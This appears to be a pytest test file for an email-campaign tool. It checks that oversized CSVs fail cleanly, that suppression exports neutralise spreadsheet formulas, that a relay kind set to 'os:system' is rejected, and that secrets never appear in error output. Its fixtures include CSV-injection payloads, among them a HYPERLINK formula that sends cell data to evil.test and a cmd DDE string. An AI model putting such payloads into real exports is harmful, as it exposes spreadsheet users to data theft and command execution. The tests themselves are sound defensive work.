"""Hostile files: a CSV that would crash an import, a suppression export that would run as
formulas in a spreadsheet."""
from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from campaigns.ledger import suppressions
from campaigns.audience.csvsafe import escape_cell, unescape_cell

HUGE = 50 * 1024 * 1024


def test_a_50mb_header_line_is_a_file_line_error(project: Any) -> None:
    path = project.root / "huge.csv"
    path.write_bytes(b"email," + b"x" * HUGE + b"\nanna@example.it,1\n")
    for command in (("contacts", "import", str(path), "--list", "l"),
                    ("suppressions", "import", str(path))):
        proc = project.cli(*command, check=False)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert f"{path}:1: the header: a field is longer than 131,072 characters" \
            in proc.stderr


def test_a_row_with_a_csv_error_is_a_row_error_and_the_rest_imported(project: Any) -> None:
    path = project.root / "rows.csv"
    path.write_bytes(b"email,note\nanna@example.it,1\nbob@example.it,\"" + b"y" * 300_000
                     + b"\"\ncarl@example.it,3\n")
    proc = project.cli("contacts", "import", str(path), "--list", "l", check=False)
    assert "Traceback" not in proc.stderr
    assert f"{path}:3: " in proc.stderr and "longer than 131,072 characters" in proc.stderr
    assert "2 imported" in proc.stdout
    proc = project.cli("suppressions", "import", str(path), check=False)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert f"{path}:3" in proc.stdout and "2 suppressed" in proc.stdout


HOSTILE = {"eve@example.test": '=HYPERLINK("https://evil.test/?"&A1,"click")',
           "sum@example.test": "+SUM(A1:A9)", "cmd@example.test": "@cmd|' /C calc'!A0",
           "neg@example.test": "-2+3", "tab@example.test": "\t=1+1",
           "quoted@example.test": "'=already quoted", "plain@example.test": "asked by phone"}


def test_suppressions_export_neutralises_formulas_and_imports_back(project: Any,
                                                                   tmp_path: Path) -> None:
    db = project.ctx.db
    for address, reason in HOSTILE.items():
        suppressions.add(db, address, reason)
    suppressions.add(db, "-dash@example.test", "plain")
    exported = project.root / "export.csv"
    project.cli("suppressions", "export", str(exported))
    rows = list(csv.reader(io.StringIO(exported.read_text(encoding="utf-8"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    reasons = {row[0]: row[1] for row in rows[1:]}
    assert reasons["eve@example.test"] == "'" + HOSTILE["eve@example.test"]
    assert reasons["quoted@example.test"] == "''=already quoted"
    assert reasons["plain@example.test"] == "asked by phone"
    assert "'-dash@example.test" in reasons
    before = {s.address: s.reason for s in suppressions.list_all(db)}
    for address in before:
        suppressions.remove(db, address)
    proc = project.cli("suppressions", "import", str(exported))
    assert f"{len(before)} suppressed" in proc.stdout
    assert {s.address: s.reason for s in suppressions.list_all(db)} == before


def test_escape_is_undone_exactly() -> None:
    for text in ["=1", "'=1", "''=1", "'", "'a", "-", "", "a=b", "\r", "@", "+x", "'+x"]:
        assert unescape_cell(escape_cell(text)) == text
        assert not escape_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# --- relay kinds and secrets in configuration errors -------------------------------------------

def test_a_dotted_relay_kind_must_be_a_relay_class(project: Any) -> None:
    cases = {"os:system": "os:system is a builtin_function_or_method, not a class "
                          "implementing the relay protocol",
             "builtins:dict": "builtins:dict does not implement the relay protocol "
                              "(campaigns.relays.base.Relay): no open, send, close, check method"}
    for kind, expected in cases.items():
        project.extra_toml = f'[relays.bad]\nkind = "{kind}"\n'
        project.write_config()
        proc = project.cli("relays", "list", check=False)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert f"relay 'bad': kind '{kind}': {expected}" in " ".join(proc.stderr.split())
    project.extra_toml = '[relays.good]\nkind = "campaigns.relays.console:ConsoleRelay"\n'
    project.write_config()
    assert "good" in project.cli("relays", "list").stdout


SECRET = "Hunter2-s3cret!"


def test_a_secret_in_the_wrong_key_is_never_echoed(project: Any) -> None:
    tables = [f'[relays.bad]\nkind = "smtp"\npassword_env = "{SECRET}"\n',
              f'[relays.bad]\nkind = "sendgrid"\napi_key_env = "{SECRET}"\n',
              f'[webhooks]\npostmark_user = "u"\npostmark_password_env = "{SECRET}"\n']
    # a relay's secret is resolved when the relay is used or checked (listing it works)
    commands = [("relays", "check", "bad"), ("relays", "check", "bad"),
                ("api", "--listen", "127.0.0.1:1")]
    for table, command in zip(tables, commands):
        project.extra_toml = table
        project.write_config()
        proc = project.cli(*command, check=False, timeout=30)
        assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
        assert SECRET not in proc.stdout + proc.stderr
        assert "_env names a variable (name not shown" in proc.stderr, proc.stderr
        if command[0] == "relays":
            listing = project.cli("relays", "list").stdout
            assert SECRET not in listing and "(a variable, name not shown) not set" in listing
    project.extra_toml = '[relays.bad]\nkind = "smtp"\npassword_env = "NOT_SET_ANYWHERE_42"\n'
    project.write_config()
    assert "password_env names NOT_SET_ANYWHERE_42" in project.cli("relays", "check", "bad",
                                                                  check=False).stderr


def test_values_of_secret_or_unknown_keys_are_not_shown() -> None:
    from campaigns.settings import shown
    for key in ("password", "api_key", "secret_access_key", "token", "credentials",
                "signing_key", "postmark_password_env"):
        assert SECRET not in shown(key, SECRET)
    assert SECRET not in shown("colour", SECRET, known=False)
    assert shown("port", "abc") == "got 'abc'"


def test_the_bounce_mailbox_password_env_is_never_echoed() -> None:
    from campaigns.intake.imap import parse_imap_config
    from campaigns.errors import InputError
    with pytest.raises(InputError) as info:
        parse_imap_config({"host": "127.0.0.1", "user": "b", "password_env": SECRET},
                          "campaigns.toml [bounces.imap]")
    assert SECRET not in str(info.value) and "name not shown" in str(info.value)
